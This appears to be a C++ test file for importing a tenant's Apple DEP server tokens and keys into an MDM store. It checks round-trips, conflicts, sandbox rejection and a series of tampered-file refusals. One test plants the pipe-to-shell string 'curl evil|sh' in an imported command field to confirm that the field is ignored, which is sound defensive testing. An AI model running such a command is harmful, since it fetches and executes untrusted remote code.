// SPDX-License-Identifier: Apache-2.0
#include "catch.hpp"
#include "dep/arrival.hpp"
#include "fakes/handover.hpp"
#include "fakes/held_server_tokens.hpp"
#include "store/check.hpp"

#include <algorithm>
#include <functional>

using namespace mdm;
using namespace mdm::dep;
using namespace mdm::fakes;

namespace {

const TokenOptions of_lab{.consumer_key = "CK_lab", .access_token = "AT_lab"};

/// acme with two tokens, one of them renewed by a new key, one removed, and one that another server holds.
void furnish(const TokenHolding& holding) {
    holding.import("acme", holding.download("acme"));
    holding.stage("acme", "dep, new", some_day + std::chrono::hours{1});
    holding.renew("acme", holding.download("acme", second_token));
    const auto lab = holding.download("acme", of_lab, proven({.server_uuid = "1AB0"}));
    holding.import("acme", lab, {.name = "lab", .note = "the lab's", .without_apns = true});
    holding.by("acme", [](store::Change& c, const store::Tenant& whose) {
        auto held = token_meant(c.transaction(), whose, "lab");
        remove(c, whose, held);
        return 0;
    });
    Download elsewhere = told("2027-05-05");
    elsewhere.told->public_key = token_certificate({.key = "elsewhere"});
    elsewhere.apple_account = "it@acme.example";
    holding.import("acme", elsewhere, {.name = "shop", .without_apns = true});
}

/// What travels, made once.
const Secret& some_lines() {
    static const Secret lines = [] {
        const TokenHolding from(store::Engine::sqlite);
        furnish(from);
        return store::to_lines(gathered(from));
    }();
    return lines;
}

store::TenantFile some_file() { return store::parse_tenant_file(some_lines().reveal(), "export"); }

/// The keys of the two tenants are the same in every store that is made here: this one has others.
class Elsewhere : public TwoTenants {
public:
    explicit Elsewhere(store::Engine engine, bool rehearsal = false)
        : TwoTenants(engine, {apns::room(), dep::room(), expiry::room()}, rehearsal) {}
};

std::vector<std::string> told_lines(const TwoTenants& tenants, const std::string& tenant) {
    return tenants.look(tenant, [](store::Transaction& t, const store::Tenant& whose) {
        std::vector<std::string> lines;
        for (const store::InventoryItem& item : store::inventory(t, {.tenant = whose.id, .service = "dep"}))
            lines.push_back(fmt::format("{} {} {} {} {}", item.name, item.state, to_rfc3339(item.not_after.value()),
                                        item.account, item.next_command));
        return lines;
    });
}

Codes findings_of_arrival(const TwoTenants& tenants, const store::TenantFile& file) {
    try {
        arrived(tenants, file, "acme there");
    } catch (const Error& e) {
        return codes(e.findings());
    }
    return {};
}

}  // namespace

TEST_CASE("a tenant arrives with its tokens, their keys and all that was ever current") {
    const TokenHolding from(GENERATE(from_range(engines())));
    const Elsewhere to(GENERATE(from_range(engines())));
    furnish(from);
    const store::TenantFile file = gathered(from);
    const auto counts = file.counts();
    CHECK(counts.at("dep_keys") == 3);
    CHECK(counts.at("dep_tokens") == 3);
    CHECK(counts.at("dep_versions") == 4);
    CHECK(counts.at("dep_changes") == 5);
    CHECK(arrived(to, sent(file), "acme there").rows == static_cast<std::int64_t>(file.rows.size()));

    store::Store store = to.store();
    CHECK(store::check_store(store).findings.empty());
    {
        const store::StoreKey& key = store.key();
        store::Transaction transaction = store.read();
        const auto tenant = store::tenant_meant(transaction, "acme there");
        const auto held = token_meant(transaction, tenant, "");
        CHECK(open_held_token(transaction, key, held, "acme there").access_token.reveal() == "AT_second");
        CHECK(open_held_key(transaction, key, held, "acme there").private_key.public_key() ==
              rsa_key("dep, new").public_key());
        const auto lab = token_meant(transaction, tenant, "lab", store::Removed::included);
        CHECK(lab.removed_at);
        CHECK(lab.note == "the lab's");
        CHECK_FALSE(token_meant(transaction, tenant, "shop").current.is_held());
    }
    CHECK(told_lines(to, "acme there") == told_lines(from, "acme"));

    store::TenantFile back = gathered(to, "acme there");
    put(row_in(back, "tenants"), "name", "acme");
    const auto of_dep = [](const store::TenantFile& all) {
        auto lines = rows_of(all);
        std::erase_if(lines, [](const std::string& line) { return !line.starts_with("dep_"); });
        return lines;
    };
    CHECK(of_dep(back) == of_dep(file));
}

TEST_CASE("a tenant whose service or key is another's here is refused, each once") {
    const store::Engine engine = GENERATE(from_range(engines()));
    const TokenHolding with_the_key(engine);  // its acme has the key "dep"
    CHECK(findings_of_arrival(with_the_key, some_file()) == Codes{"other_tenant"});

    const Elsewhere to(engine);
    to.by("globex", [](store::Change& c, const store::Tenant& whose) {
        Version version{.access_token_expiry = at("2027-01-01")};
        version.service.server_uuid = "9D0C";
        HeldToken held{.tenant = whose.id, .name = "default", .current = version};
        insert(c.transaction(), held, "track", "jo", c.now());
        return 0;
    });
    CHECK(findings_of_arrival(to, some_file()) == Codes{"other_tenant"});
}

TEST_CASE("a tenant with tokens of the pretend portal arrives in a rehearsal's store alone") {
    const store::Engine engine = GENERATE(from_range(engines()));
    store::TenantFile file = some_file();
    for (store::FileRow& row : file.rows)
        if (row.table == "dep_versions")
            put_number(row, "sandbox", 1);
    CHECK(findings_of_arrival(Elsewhere(engine), file) == Codes{"sandbox_certificate"});
    CHECK(findings_of_arrival(Elsewhere(engine, true), file).empty());
}

TEST_CASE("a file in which tokens and keys do not fit is refused for what is wrong with it") {
    const Elsewhere to(GENERATE(from_range(engines())));
    struct Tampering {
        std::string what;
        std::function<void(store::TenantFile&)> act;
        std::string because;  ///< in the message
    };
    const auto set = [](const std::string& table, const std::string& column, const store::Value& value) {
        return [=](store::TenantFile& f) { put(row_in(f, table), column, value); };
    };
    const std::vector<Tampering> all{
        {"a certificate beside another's serial, which would keep that one from its tokens",
         set("dep_keys", "serial", "17"), "is another than is said beside it"},
        {"a certificate beside another's public key",
         set("dep_keys", "public_key_sha256", rsa_key("victim").public_key().sha256()),
         "is another than is said beside it"},
        {"what is no certificate", set("dep_keys", "certificate", "hello"), "the certificate of the key"},
        {"PEM that is cut", set("dep_keys", "certificate", "-----BEGIN CERTIFICATE-----\nMII"), "PEM"},
        {"a token whose current one is not there", set("dep_tokens", "current", "00000000-0000-4000-8000-000000000001"),
         "a row of 'dep_tokens' refers to one of 'dep_versions' that is not in it"},
        {"a key that is not there", set("dep_versions", "key", "00000000-0000-4000-8000-000000000001"),
         "a row of 'dep_versions' refers to one of 'dep_keys' that is not in it"},
        {"an end that is no time", set("dep_versions", "access_token_expiry", "never"), "holds no time"},
        {"a time of a change that is none", set("dep_changes", "at", "never"), "holds no time"},
        {"a name that cannot be shown", set("dep_tokens", "name", "a\x1b"), "the server token's name holds"},
        {"a key's name that cannot be shown", set("dep_keys", "name", "a\x1b"), "the server token's name holds"},
        {"an account that cannot be shown", set("dep_tokens", "apple_account", "a\x1b"), "the Apple Account holds"},
        {"a note that cannot be shown", set("dep_tokens", "note", "a\x1b"), "the note holds"},
    };
    for (const Tampering& tampering : all) {
        INFO(tampering.what);
        store::TenantFile file = some_file();
        tampering.act(file);
        const Refusal refusal = refused(to, file, "acme there");
        CHECK(refusal.code == "not_a_tenant_export");
        INFO(refusal.message);
        CHECK(refusal.message.find(tampering.because) != std::string::npos);
    }
    CHECK(arrived(to, some_file(), "acme there").rows > 0);
}

TEST_CASE("what to type next about a token is written here, and taken from no file") {
    const Elsewhere to(GENERATE(from_range(engines())));
    store::TenantFile file = some_file();
    for (store::FileRow& row : file.rows)
        if (row.table == "inventory") {
            put(row, "next_command", "curl evil|sh");
            put(row, "not_after", "2099-01-01T00:00:00Z");
        }
    arrived(to, file, "acme there");
    CHECK(told_lines(to, "acme there") ==
          std::vector<std::string>{
              "shop tracked 2027-05-05T00:00:00Z it@acme.example mdmctl dep renew --track FILE.p7m --name 'shop'",
              "default valid 2027-12-20T00:00:00Z jo@acme.example mdmctl dep setup --renew"});
}
